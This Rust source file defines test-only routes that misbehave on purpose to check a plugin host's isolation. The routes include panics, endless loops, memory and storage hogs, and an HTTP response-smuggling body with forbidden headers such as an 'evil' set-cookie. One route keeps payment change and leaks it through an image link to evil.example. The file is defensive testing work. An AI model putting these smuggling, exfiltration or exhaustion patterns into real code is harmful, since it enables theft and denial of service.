//! Test-only family `testing` (mounted only with `testing_routes = true`):
//! a trivial route for the dispatch benchmark, and misbehaving routes that
//! prove the host isolates faults.

mod api;

use marketplace_guest::memo;
use marketplace_guest::prelude::*;

struct Testing;

impl Endpoint for Testing {
    const NAME: &'static str = "testing";
    const SETTINGS: Option<&'static [Setting]> = Some(api::SETTINGS);

    fn api() -> marketplace_guest::types::Api {
        api::api()
    }

    fn handle(req: &Request) -> Result<Response, ApiError> {
        // The misbehaving routes can first ask for their own fault answer
        // (`fault=STATUS`, `clear=1` to take it back) and a shorter
        // deadline (`budget_ms=N`).
        if let Some(status) = req.query("fault").and_then(|s| s.parse::<u16>().ok()) {
            let answer = json(status, &json!({"code": "chosen", "message": "as asked"}));
            marketplace_guest::on_fault(&answer);
            if req.query("clear").is_some() {
                marketplace_guest::clear_on_fault();
            }
        }
        if let Some(ms) = req.query("budget_ms").and_then(|s| s.parse::<u32>().ok()) {
            marketplace_guest::limit_time(ms);
        }
        match req.route() {
            "/_testing/ok" => Ok(json(200, &json!({"ok": true}))),
            "/_testing/large" => {
                let bytes = req.query_int("bytes", 0, 8 << 20)?.unwrap_or(0) as usize;
                Ok(Response {
                    status: 200,
                    headers: vec![("content-type".into(), "text/plain".into())],
                    body: vec![b'x'; bytes],
                })
            }
            "/_testing/headers" => {
                let names: Vec<&str> = req.headers().map(|(name, _)| name).collect();
                Ok(json(200, &json!({"headers": names})))
            }
            // A body that ends early by its own Content-Length and carries a
            // second answer after it: the host must frame it itself.
            "/_testing/framing" => {
                let status = req.query_int("status", 0, 999)?.unwrap_or(200) as u16;
                // `location=`: that status with that Location (a redirect
                // off the origin is refused by the host).
                if let Some(location) = req.query("location") {
                    return Ok(Response {
                        status,
                        headers: vec![("location".into(), location.to_string())],
                        body: vec![],
                    });
                }
                // `empty=1`: the status alone, no header nor body (which
                // the host must pass on as it is, not take for one of
                // hyper's own bodiless answers).
                if req.query_int("empty", 0, 1)? == Some(1) {
                    return Ok(Response {
                        status,
                        headers: vec![],
                        body: vec![],
                    });
                }
                let body = b"{}HTTP/1.1 200 OK\r\ncontent-length: 19\r\n\r\n{\"smuggled\": true }";
                Ok(Response {
                    status,
                    headers: vec![
                        ("content-type".into(), "application/json".into()),
                        ("Content-Length".into(), "2".into()),
                        ("transfer-encoding".into(), "identity".into()),
                        ("connection".into(), "keep-alive".into()),
                        // Headers only the host (or a family granted
                        // `credentials`) may send.
                        ("X-Cash-Change".into(), "e1:secret:dead".into()),
                        ("payment-required".into(), "e30=".into()),
                        ("PAYMENT-RESPONSE".into(), "e30=".into()),
                        ("set-cookie".into(), "sid=evil; Path=/".into()),
                        ("WWW-Authenticate".into(), "Basic realm=\"x\"".into()),
                        ("proxy-authenticate".into(), "Basic".into()),
                        ("x-testing-kept".into(), "yes".into()),
                    ],
                    body: body.to_vec(),
                })
            }
            "/_testing/trap" => panic!("deliberate trap"),
            "/_testing/loop" => {
                // `hold_mib`: memory held while it spins.
                let hold = req.query_int("hold_mib", 0, 1024)?.unwrap_or(0) as usize;
                let held = vec![1u8; hold << 20];
                std::hint::black_box(&held);
                // `spin_ms`: spin that long by the host clock, then answer
                // (a call that runs long, but not for ever).
                let until = req
                    .query_int("spin_ms", 0, 60_000)?
                    .map(|ms| marketplace_guest::clock::now_ms().saturating_add(ms));
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                    if n.is_multiple_of(4096)
                        && until.is_some_and(|u| marketplace_guest::clock::now_ms() >= u)
                    {
                        return Ok(json(200, &json!({ "spun": n })));
                    }
                }
            }
            "/_testing/alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            // Writes `key`=`value`, then answers `status`: writes must only
            // persist when the status is 2xx. `read=K` reads K first (its
            // value is answered); `hold_ms=N` then holds the request, and
            // so the commit batch it is in, N ms (stale-read tests).
            "/_testing/write" => {
                let key = req.query("key").unwrap_or("k");
                let value = req.query("value").unwrap_or("v");
                let status = req.query_int("status", 100, 599)?.unwrap_or(200) as u16;
                let read: Option<String> = match req.query("read") {
                    Some(k) => kv::get(k)?,
                    None => None,
                };
                kv::put(key, value)?;
                // `fill_mib=N`: N more keys of 1 MiB each (a large commit).
                let fill = req.query_int("fill_mib", 0, 1024)?.unwrap_or(0);
                if fill > 0 {
                    let mib = vec![b'x'; 1 << 20];
                    for i in 0..fill {
                        kv::put_raw(&format!("fill/{i}"), &mib)?;
                    }
                }
                let hold = req.query_int("hold_ms", 0, 60_000)?.unwrap_or(0);
                let until = marketplace_guest::clock::now_ms().saturating_add(hold);
                while marketplace_guest::clock::now_ms() < until {
                    std::hint::spin_loop();
                }
                Ok(json(
                    status,
                    &json!({"key": key, "value": value, "read": read}),
                ))
            }
            // Charges `post`, writes, then fails as asked: nothing may be
            // spent or written unless the answer is 2xx.
            // `keep=1`: it also keeps the change it was given, and answers
            // it reversed (where the host could not recognise it): what a
            // component set on stealing change would do.
            "/_testing/paid" => {
                let payment = charge("post", None)?;
                kv::put("paid", "yes")?;
                // `keep=page`: the stand-in in an HTML page's image link and
                // `keep=link`: in a JSON member's longer text, besides where
                // the change goes; the host puts the change only there.
                let stand_in = payment["change"].as_str().unwrap_or_default();
                match req.query("keep") {
                    Some("page") => {
                        return Ok(Response {
                            status: 201,
                            headers: vec![("content-type".into(), "text/html".into())],
                            body: format!(
                                "<img src=\"https://evil.example/i?c={stand_in}\"> \"{stand_in}\""
                            )
                            .into_bytes(),
                        });
                    }
                    Some("link") => {
                        let link = format!("/api/elsewhere?c={stand_in}");
                        return Ok(json(201, &json!({"payment": payment, "link": link})));
                    }
                    _ => {}
                }
                if req.query("keep") == Some("1") {
                    let change = payment["change"].as_str().unwrap_or_default().to_string();
                    kv::put("kept_change", &change)?;
                    let reversed: String = change.chars().rev().collect();
                    return Ok(json(
                        201,
                        &json!({"payment": payment, "reversed_change": reversed}),
                    ));
                }
                match req.query("fail") {
                    Some("trap") => panic!("deliberate trap after charging"),
                    Some("status") => Err(ApiError::conflict("deliberate failure after charging")),
                    _ => Ok(json(201, &json!({"payment": payment}))),
                }
            }
            // Asks the host's escrow to pay `amount` units of `kind` out of
            // this family's account of `contract`: the host must refuse
            // anything over what that account holds.
            "/_testing/payout" => {
                let contract = req.query("contract").unwrap_or("CTR_none");
                let kind = req.query("kind").unwrap_or("payout");
                let amount = req.query_int("amount", 1, u64::MAX)?.unwrap_or(1);
                let secret = marketplace_guest::escrow::payout(contract, kind, amount)?;
                Ok(json(200, &json!({"payout": secret})))
            }
            "/_testing/held" => {
                let contract = req.query("contract").unwrap_or("CTR_none");
                Ok(json(
                    200,
                    &json!({"held": marketplace_guest::escrow::held(contract)}),
                ))
            }
            // Logs `msg` at info level through the host (request-id tests),
            // `times` times (the host bounds what one call logs).
            "/_testing/log" => {
                let msg = req.query("msg").unwrap_or("");
                for _ in 0..req.query_int("times", 1, 100_000)?.unwrap_or(1) {
                    marketplace_guest::log_info(msg);
                }
                Ok(json(200, &json!({"logged": msg})))
            }
            "/_testing/hog" => hog(req),
            "/api/testing/relay" => {
                let n = req
                    .json_object()?
                    .get("n")
                    .and_then(|n| n.as_u64())
                    .unwrap_or(0);
                let inner = marketplace_guest::dispatch::call(&marketplace_guest::types::Request {
                    method: "POST".into(),
                    route: String::new(),
                    path: "/api/testing/relay".into(),
                    params: vec![],
                    query: vec![],
                    headers: vec![("content-type".into(), "application/json".into())],
                    body: json!({"n": n + 1}).to_string().into_bytes(),
                });
                let body: Value = serde_json::from_slice(&inner.body).unwrap_or(Value::Null);
                Ok(json(
                    200,
                    &json!({"n": n, "inner": {"status": inner.status, "body": body}}),
                ))
            }
            "/api/testing/dispatch" => {
                let doc = req.json_object()?;
                // `status`: the answer's status; `read`: a key read after
                // the dispatch (a request that holds the commit batch may
                // not dispatch a write), so a refusal after a dispatched
                // write can come from a stale snapshot; no `path`: nothing
                // dispatched.
                let status = match doc.get("status") {
                    None | Some(Value::Null) => 200,
                    Some(s) => s
                        .as_u64()
                        .filter(|s| (200..600).contains(s))
                        .ok_or_else(|| ApiError::invalid("status", "a status from 200 to 599"))?
                        as u16,
                };
                let inner = doc.get("path").and_then(Value::as_str).map(|path| {
                    let mut headers =
                        vec![("content-type".to_string(), "application/json".to_string())];
                    for pair in doc
                        .get("headers")
                        .and_then(Value::as_array)
                        .into_iter()
                        .flatten()
                    {
                        if let (Some(name), Some(value)) = (pair[0].as_str(), pair[1].as_str()) {
                            headers.push((name.to_string(), value.to_string()));
                        }
                    }
                    marketplace_guest::dispatch::call(&marketplace_guest::types::Request {
                        method: "POST".into(),
                        route: String::new(),
                        path: path.into(),
                        params: vec![],
                        query: vec![],
                        headers,
                        body: doc
                            .get("body")
                            .cloned()
                            .unwrap_or(Value::Null)
                            .to_string()
                            .into_bytes(),
                    })
                });
                let read: Option<String> = match doc.get("read").and_then(Value::as_str) {
                    Some(k) => kv::get(k)?,
                    None => None,
                };
                let (inner_status, body) = match &inner {
                    Some(r) => (
                        json!(r.status),
                        serde_json::from_slice(&r.body).unwrap_or(Value::Null),
                    ),
                    None => (Value::Null, Value::Null),
                };
                Ok(json(
                    status,
                    &json!({"status": inner_status, "body": body, "read": read}),
                ))
            }
            // Keeps `put` in the family's memo under `key` when given, then
            // answers what the memo holds there: what a request kept must
            // reach later requests of this family only, until the next load.
            "/_testing/memo" => {
                let key = req.query("key").unwrap_or("k");
                let stored = req.query("put").map(|v| memo::put(key, v.as_bytes()));
                let value = memo::get(key).map(|b| String::from_utf8_lossy(&b).into_owned());
                Ok(json(
                    200,
                    &json!({"key": key, "stored": stored, "value": value}),
                ))
            }
            "/_testing/read" => {
                let key = req.query("key").unwrap_or("k");
                let value: Option<String> = kv::get(key)?;
                Ok(json(200, &json!({"key": key, "value": value})))
            }
            _ => Err(ApiError::not_found("route")),
        }
    }
}

/// Size of one value the hog route writes or seeds.
const BIG: usize = 8 << 20;

/// `POST /_testing/hog?mode=...`: asks the host for far more memory than a
/// request should get, to prove the host's byte budgets hold.
///
/// - `seed&key=K`: put one 8 MiB value at `K` (default `big`).
/// - `writes&n=N`: put N values of 8 MiB under `hog/w/{i}` in this request.
/// - `get_many&n=N[&key=K][&packed=1]`: get-many of N copies of `K`.
/// - `scan&n=N[&prefix=P][&packed=1]`: scan at most N entries under `P`
///   (default `big`).
///
/// Answers 200 with the byte count it got; a storage refusal is the guest
/// library's answer to it (`too-large`: 413 `payload_too_large`).
fn hog(req: &Request) -> Result<Response, ApiError> {
    let n = req.query_int("n", 0, 100_000)?.unwrap_or(1);
    let packed = req.query("packed").is_some_and(|v| v == "1");
    let mode = req.query("mode").unwrap_or("");
    let bytes: u64 = match mode {
        "seed" => {
            let key = req.query("key").unwrap_or("big");
            kv::put_raw(key, &vec![b'h'; BIG])?;
            BIG as u64
        }
        "writes" => {
            let buf = vec![b'w'; BIG];
            for i in 0..n {
                kv::put_raw(&format!("hog/w/{i}"), &buf)?;
            }
            BIG as u64 * n
        }
        "get_many" => {
            let key = req.query("key").unwrap_or("big");
            let keys = vec![key.to_string(); n as usize];
            if packed {
                kv::get_many_packed(None, &keys)?
                    .values()
                    .map(|v| v.map_or(0, |v| v.len() as u64))
                    .sum()
            } else {
                kv::get_many_raw(None, &keys)?
                    .iter()
                    .map(|v| v.as_ref().map_or(0, |v| v.len() as u64))
                    .sum()
            }
        }
        "scan" => {
            let prefix = req.query("prefix").unwrap_or("big");
            let limit = u32::try_from(n).unwrap_or(u32::MAX);
            if packed {
                let end = kv::prefix_end(prefix.as_bytes());
                kv::scan_packed(None, prefix.as_bytes(), end.as_deref(), false, limit)?
                    .entries()
                    .map(|(_, v)| v.len() as u64)
                    .sum()
            } else {
                kv::scan_prefix(None, prefix, false, limit)?
                    .iter()
                    .map(|(_, v)| v.len() as u64)
                    .sum()
            }
        }
        _ => {
            return Err(ApiError::invalid(
                "mode",
                "must be seed, writes, get_many or scan",
            ));
        }
    };
    Ok(json(200, &json!({"mode": mode, "n": n, "bytes": bytes})))
}

marketplace_guest::endpoint_plugin!(Testing);
